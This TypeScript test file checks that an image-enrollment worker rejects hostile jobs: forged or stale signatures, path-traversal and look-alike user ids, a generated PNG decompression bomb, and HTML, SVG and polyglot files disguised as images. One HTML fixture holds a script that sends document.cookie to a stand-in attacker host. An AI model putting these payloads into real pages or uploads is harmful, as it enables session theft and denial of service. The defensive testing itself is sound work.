// Hostile inputs end to end (issue 4): the built worker, with a signing key, against the emulator.
// Every bad job ends with its documented code, a dead-letter entry and a failed outcome, and
// nothing is written; the good ones are stored upright, stripped of metadata, under their user.
import zlib from 'node:zlib';
import { CreateBucketCommand, GetObjectCommand, HeadObjectCommand, PutObjectCommand } from '@aws-sdk/client-s3';
import type { MessageAttributeValue } from '@aws-sdk/client-sqs';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { signJob } from '../../src/job/signature.ts';
import { cameraJpeg, jpegImage, pngImage } from '../support/images.ts';
import { inlineJob, issuedNow, outcomes, queueHolds, sendJob, stagedImage } from '../support/jobs.ts';
import type { Outcome } from '../../src/job/contract.ts';
import { createStack, drainQueue, listKeys, uniqueName, type Stack } from '../support/resources.ts';
import { spawnCli, stackEnv, startWorker, workerReaper, type WorkerProcess } from '../support/worker-process.ts';
import { base64 as b64, sha256Hex as sha256 } from '../support/bytes.ts';

const emulator = inject('emulator');
const workers = workerReaper();
afterAll(() => workers.killAll());

const CURRENT = 'hostile-current-key-0123456789abcdef0123456789';
const PREVIOUS = 'hostile-previous-key-0123456789abcdef01234567';
const RETIRED = 'hostile-retired-key-0123456789abcdef012345678';
const FORGER = 'an-attackers-own-key-0123456789abcdef01234567';

const signature = (body: string, key: string): Record<string, MessageAttributeValue> => ({
  Signature: { DataType: 'String', StringValue: signJob(body, key) },
});

/** A small PNG whose header declares 30000×30000 pixels (900 megapixels) of zeros: a decompression bomb. */
function pngBomb(): Buffer {
  const side = 30_000;
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(zlib.crc32(typed));
    return Buffer.concat([length, typed, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header[8] = 1; // bit depth 1, greyscale
  const rows = Buffer.alloc((Math.ceil(side / 8) + 1) * side);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', zlib.deflateSync(rows, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

const HTML = '<!doctype html><html><body><script>fetch("https://evil.example/"+document.cookie)</script></body></html>';
const SVG = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="640" height="480"><script>alert(1)</script></svg>';
const PDF = '%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n';

interface Case {
  name: string;
  code: string;
  body: string;
  attributes: Record<string, MessageAttributeValue>;
}

describe('a worker with a signing key, facing hostile jobs', () => {
  let stack: Stack;
  let worker: WorkerProcess;
  let foreignBucket: string;
  let cases: Case[];
  const good: { name: string; body: string; attributes: Record<string, MessageAttributeValue>; jobId: string }[] = [];
  let camera: Buffer;
  let stagedGood: Buffer;

  beforeAll(async () => {
    stack = await createStack(emulator.endpoint, uniqueName('hostile'));
    const staging = stack.stagingBucket ?? '';
    foreignBucket = `${uniqueName('foreign')}-x`;
    await stack.s3.send(new CreateBucketCommand({ Bucket: foreignBucket }));

    const photo = await jpegImage({ width: 120, height: 90 });
    await stack.s3.send(new PutObjectCommand({ Bucket: foreignBucket, Key: 'uploads/face.jpg', Body: photo, ContentType: 'image/jpeg' }));
    // Renamed files: a name and a content type that lie.
    for (const [key, text] of [['uploads/page.jpg', HTML], ['uploads/drawing.png', SVG], ['uploads/doc.jpg', PDF]] as const) {
      await stack.s3.send(new PutObjectCommand({ Bucket: staging, Key: key, Body: Buffer.from(text), ContentType: key.endsWith('png') ? 'image/png' : 'image/jpeg' }));
    }
    await stack.s3.send(new PutObjectCommand({ Bucket: staging, Key: 'uploads/empty.jpg', Body: Buffer.alloc(0), ContentType: 'image/jpeg' }));

    const signed = (name: string, code: string, job: unknown): Case => {
      const body = JSON.stringify(job);
      return { name, code, body, attributes: signature(body, CURRENT) };
    };
    const job = (jobId: string, userId: string, images: unknown[], issuedAt = issuedNow()) => ({ version: 1, jobId, userId, issuedAt, images });
    // Staged at a key after the job was signed naming other bytes: what a leaked producer role can do.
    const swapped = await jpegImage({ width: 120, height: 90, seed: 77 });
    await stack.s3.send(new PutObjectCommand({ Bucket: staging, Key: 'uploads/swapped.jpg', Body: swapped }));
    const unsignedBody = JSON.stringify(inlineJob('mallory', [photo], 'unsigned'));
    const forgedBody = JSON.stringify(inlineJob('victim', [photo], 'forged'));
    const staleBody = JSON.stringify(inlineJob('victim', [photo], 'stale'));
    const honestBody = JSON.stringify(inlineJob('mallory', [photo], 'tampered'));
    const tamperedBody = honestBody.replace('"mallory"', '"victim"');

    cases = [
      // Signatures: checked before the body is read at all.
      { name: 'missing signature', code: 'INVALID_SIGNATURE', body: unsignedBody, attributes: {} },
      { name: 'forged signature', code: 'INVALID_SIGNATURE', body: forgedBody, attributes: signature(forgedBody, FORGER) },
      { name: 'stale (retired) key', code: 'INVALID_SIGNATURE', body: staleBody, attributes: signature(staleBody, RETIRED) },
      { name: 'body changed after signing', code: 'INVALID_SIGNATURE', body: tamperedBody, attributes: signature(honestBody, CURRENT) },
      { name: 'signature as Binary', code: 'INVALID_SIGNATURE', body: unsignedBody, attributes: { Signature: { DataType: 'Binary', BinaryValue: Buffer.from(signJob(unsignedBody, CURRENT)) } } },
      // User ids: traversal and look-alikes.
      signed('path traversal', 'INVALID_USER_ID', inlineJob('../admin', [photo], 'traversal-1')),
      signed('traversal inside', 'INVALID_USER_ID', inlineJob('alice/../bob', [photo], 'traversal-2')),
      signed('encoded slash', 'INVALID_USER_ID', inlineJob('alice%2f..%2fbob', [photo], 'traversal-3')),
      signed('Kelvin sign look-alike', 'INVALID_USER_ID', inlineJob('\u212Aelvin', [photo], 'lookalike-1')),
      signed('full-width look-alike', 'INVALID_USER_ID', inlineJob('ａｌｉｃｅ', [photo], 'lookalike-2')),
      signed('zero-width space', 'INVALID_USER_ID', inlineJob('ali\u200bce', [photo], 'lookalike-3')),
      // Images.
      signed('truncated JPEG', 'INVALID_IMAGE', inlineJob('mallory', [photo.subarray(0, Math.floor(photo.length * 0.7))], 'truncated')),
      signed('PNG bomb', 'IMAGE_TOO_LARGE', inlineJob('mallory', [pngBomb()], 'bomb')),
      signed('HTML inline', 'INVALID_IMAGE', job('html-inline', 'mallory', [{ data: b64(HTML) }])),
      signed('HTML renamed .jpg', 'INVALID_IMAGE', job('html-staged', 'mallory', [stagedImage(staging, 'uploads/page.jpg', Buffer.from(HTML))])),
      signed('SVG renamed .png', 'INVALID_IMAGE', job('svg-staged', 'mallory', [stagedImage(staging, 'uploads/drawing.png', Buffer.from(SVG))])),
      signed('PDF renamed .jpg', 'INVALID_IMAGE', job('pdf-staged', 'mallory', [stagedImage(staging, 'uploads/doc.jpg', Buffer.from(PDF))])),
      signed('JPEG+ZIP polyglot', 'INVALID_IMAGE', inlineJob('mallory', [Buffer.concat([photo, Buffer.from('PK\x03\x04\x14\x00payload.jar')])], 'polyglot')),
      signed('zero bytes inline', 'INVALID_IMAGE', job('empty-inline', 'mallory', [{ data: '' }])),
      signed('zero bytes staged', 'INVALID_IMAGE', job('empty-staged', 'mallory', [stagedImage(staging, 'uploads/empty.jpg', Buffer.alloc(0))])),
      signed('base64 garbage', 'INVALID_IMAGE', job('garbage', 'mallory', [{ data: 'SGVsbG8@#$%^&*()_+=' }])),
      signed('base64 of random bytes', 'INVALID_IMAGE', job('noise', 'mallory', [{ data: b64(Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 37) % 256))) }])),
      signed('too small to hold a face', 'IMAGE_TOO_SMALL', inlineJob('mallory', [await pngImage({ width: 40, height: 40 })], 'tiny')),
      signed('foreign bucket', 'SOURCE_NOT_ALLOWED', job('foreign', 'mallory', [stagedImage(foreignBucket, 'uploads/face.jpg', photo)])),
      signed('the reference bucket itself', 'SOURCE_NOT_ALLOWED', job('refs', 'mallory', [stagedImage(stack.bucket, 'users/victim/ref_000000000000.jpg')])),
      // Trust, second pass: the staged bytes and the job's age are signed too.
      signed('staged object swapped after signing', 'SOURCE_MISMATCH', job('swapped', 'victim', [stagedImage(staging, 'uploads/swapped.jpg', photo)])),
      signed('a signed job with no issuedAt', 'INVALID_MESSAGE', { version: 1, jobId: 'no-issued-at', userId: 'victim', images: [{ data: b64(photo) }] }),
      signed('a signed job 15 days old', 'JOB_EXPIRED', job('expired', 'victim', [{ data: b64(photo) }], issuedNow() - 15 * 86_400)),
      signed('a signed job from an hour ahead', 'INVALID_MESSAGE', job('future', 'victim', [{ data: b64(photo) }], issuedNow() + 3_600)),
    ];

    camera = await cameraJpeg({ width: 160, height: 100 });
    stagedGood = await jpegImage({ width: 200, height: 150 });
    await stack.s3.send(new PutObjectCommand({ Bucket: staging, Key: 'uploads/good.bin', Body: stagedGood }));
    const cameraBody = JSON.stringify(inlineJob('Grace', [camera], 'camera'));
    const previousBody = JSON.stringify(inlineJob('heidi', [await pngImage({ width: 100, height: 80 })], 'rotation'));
    const stagedBody = JSON.stringify(job('staged-good', 'ivan', [stagedImage(staging, 'uploads/good.bin', stagedGood)]));
    good.push(
      { name: 'camera photo', body: cameraBody, attributes: signature(cameraBody, CURRENT), jobId: 'camera' },
      { name: 'previous key', body: previousBody, attributes: signature(previousBody, PREVIOUS), jobId: 'rotation' },
      { name: 'staged', body: stagedBody, attributes: signature(stagedBody, CURRENT), jobId: 'staged-good' },
    );

    worker = workers.track(
      await startWorker(
        stackEnv(stack, emulator.imdsEndpoint, {
          JOB_SIGNING_KEY: CURRENT,
          JOB_SIGNING_KEY_PREVIOUS: PREVIOUS,
          DELETE_STAGED_SOURCES: 'true',
        }),
      ),
    );
    for (const c of [...cases, ...good]) await sendJob(stack, c.body, c.attributes);
  });

  it('dead-letters every hostile job once, unchanged, with its documented ErrorCode', async () => {
    const dead = await drainQueue(stack.sqs, stack.deadLetterQueueUrl ?? '', { expected: cases.length, timeoutMs: 60_000 });

    const got = new Map(dead.map((m) => [`${m.Body}|${m.MessageAttributes?.Signature?.StringValue ?? ''}`, m.MessageAttributes?.ErrorCode?.StringValue]));
    const want = cases.map((c) => [c.name, c.code, got.get(`${c.body}|${c.attributes.Signature?.StringValue ?? ''}`)]);
    expect(want).toEqual(cases.map((c) => [c.name, c.code, c.code]));
    expect(dead).toHaveLength(cases.length);
  });

  let results: Outcome[];

  it('publishes a failed outcome with the code for each, and trusts no id of an unauthenticated job', async () => {
    results = await outcomes(stack, cases.length + good.length, 60_000);

    const failures = results.filter((o) => o.status === 'failed');
    expect(failures.map((o) => o.error?.code).sort()).toEqual(cases.map((c) => c.code).sort());
    for (const o of failures.filter((f) => f.error?.code === 'INVALID_SIGNATURE')) expect([o.jobId, o.userId]).toEqual([null, null]);
  });

  it('writes nothing for them: the only references are those of the good jobs', async () => {
    const succeeded = results.filter((o) => o.status === 'succeeded');
    expect(succeeded.map((o) => o.jobId).sort()).toEqual(good.map((g) => g.jobId).sort());
    const keys = await listKeys(stack.s3, stack.bucket);
    expect(keys.sort()).toEqual(succeeded.flatMap((o) => o.references?.map((r) => r.key) ?? []).sort());
    expect(keys.every((k) => /^users\/(grace|heidi|ivan)\/ref_[0-9a-f]{12}\.(jpg|png)$/.test(k))).toBe(true);
    await queueHolds(stack, stack.jobsQueueUrl, { visible: 0, inFlight: 0 });
  });

  it('stores a GPS-tagged, orientation-6 photo upright with no metadata left, keyed by the bytes as received', async () => {
    const outcome = results.find((o) => o.jobId === 'camera');
    const key = `users/grace/ref_${sha256(camera).slice(0, 12)}.jpg`;
    expect(outcome?.references?.map((r) => ({ key: r.key, sha256: r.sha256, contentType: r.contentType }))).toEqual([
      { key, sha256: sha256(camera), contentType: 'image/jpeg' },
    ]);

    const object = await stack.s3.send(new GetObjectCommand({ Bucket: stack.bucket, Key: key }));
    const stored = Buffer.from(await object.Body!.transformToByteArray());
    expect(stored.length).toBe(outcome?.references?.[0]?.bytes);
    expect(object.Metadata).toEqual({ 'job-id': 'camera', sha256: sha256(camera), 'stored-sha256': sha256(stored) });
    const before = await sharp(camera).metadata();
    const after = await sharp(stored).metadata();
    expect([before.width, before.height, before.orientation, before.exif !== undefined]).toEqual([160, 100, 6, true]);
    expect([after.format, after.width, after.height]).toEqual(['jpeg', 100, 160]);
    expect({ exif: after.exif, xmp: after.xmp, icc: after.icc, iptc: after.iptc, orientation: after.orientation }).toEqual({
      exif: undefined,
      xmp: undefined,
      icc: undefined,
      iptc: undefined,
      orientation: undefined,
    });
    for (const text of ['AcmeCam', 'Spy 3000', 'Someone Private']) expect(stored.includes(Buffer.from(text))).toBe(false);
  });

  it('accepts a job signed with the previous key during a rotation, and logs which key matched — never a key', async () => {
    // Each line comes after its outcome is published: waited for, not read at one instant.
    const line = await worker.waitForLog((l) => l.msg === 'job succeeded' && l.jobId === 'rotation');
    expect(line).toMatchObject({ signature: 'previous', userId: 'heidi' });
    expect(await worker.waitForLog((l) => l.msg === 'job succeeded' && l.jobId === 'camera')).toMatchObject({ signature: 'current' });
    const everything = JSON.stringify(worker.logs) + worker.text.join('\n');
    for (const key of [CURRENT, PREVIOUS]) expect(everything).not.toContain(key);
    expect(worker.logs.some((l) => String(l.msg).startsWith('no JOB_SIGNING_KEY'))).toBe(false);
  });

  it('deletes the staged source of a succeeded job, and keeps those of failed jobs', async () => {
    const staged = await listKeys(stack.s3, stack.stagingBucket ?? '');
    expect(staged.sort()).toEqual(['uploads/doc.jpg', 'uploads/drawing.png', 'uploads/empty.jpg', 'uploads/page.jpg', 'uploads/swapped.jpg']);
    expect(await worker.waitForLog((l) => l.jobId === 'staged-good' && l.msg === 'job succeeded')).toMatchObject({ stagedSourcesDeleted: 1 });
    const ref = results.find((o) => o.jobId === 'staged-good')?.references?.[0];
    expect(ref?.key).toBe(`users/ivan/ref_${sha256(stagedGood).slice(0, 12)}.jpg`);
    const head = await stack.s3.send(new HeadObjectCommand({ Bucket: stack.bucket, Key: ref?.key }));
    expect(head.ContentLength).toBe(ref?.bytes);
  });

  it('enqueue signs its job with JOB_SIGNING_KEY from its environment', async () => {
    const { writeFile, mkdtemp } = await import('node:fs/promises');
    const { join } = await import('node:path');
    const { tmpdir } = await import('node:os');
    const dir = await mkdtemp(join(tmpdir(), 'enqueue-signed-'));
    await writeFile(join(dir, 'face.png'), await pngImage({ width: 90, height: 90 }));
    const env = stackEnv(stack, emulator.imdsEndpoint, { JOB_SIGNING_KEY: CURRENT });

    const cli = spawnCli(['enqueue', '--user', 'Judy', '--job-id', 'signed-by-cli', join(dir, 'face.png')], env);
    const exit = await cli.exited;

    expect(exit.code, cli.text.join('\n')).toBe(0);
    expect(cli.logs[0]).toMatchObject({ enqueued: { jobId: 'signed-by-cli', signed: true } });
    const line = await worker.waitForLog((l) => l.jobId === 'signed-by-cli' && l.msg === 'job succeeded');
    expect(line.signature).toBe('current');
  });
});

describe('a worker without a signing key, with ALLOW_UNSIGNED_JOBS=true', () => {
  it('says once, at start, that jobs are not authenticated, and still runs them', async () => {
    const stack = await createStack(emulator.endpoint, uniqueName('unsigned'));
    const worker = workers.track(await startWorker(stackEnv(stack, emulator.imdsEndpoint)));

    await sendJob(stack, inlineJob('alice', [await jpegImage()]));
    const [outcome] = await outcomes(stack, 1);

    expect(outcome?.status).toBe('succeeded');
    const warnings = worker.logs.filter((l) => String(l.msg).startsWith('no JOB_SIGNING_KEY'));
    expect(warnings).toHaveLength(1);
    expect(warnings[0]?.level).toBe('warn');
    expect(await worker.waitForLog((l) => l.msg === 'job succeeded')).toMatchObject({ signature: 'unchecked' });
  });
});

describe('enrollment-worker schema', () => {
  it('prints the JSON Schema of the job contract', async () => {
    const cli = spawnCli(['schema'], { PATH: process.env.PATH });
    const exit = await cli.exited;

    expect(exit.code).toBe(0);
    // Pretty-printed: its lines are not JSON one by one, so they are all in `text`.
    const schema = JSON.parse(cli.text.join('\n')) as Record<string, unknown>;
    expect(schema).toMatchObject({ $schema: 'https://json-schema.org/draft/2020-12/schema', type: 'object', required: ['version', 'jobId', 'userId', 'images'] });
  });
});
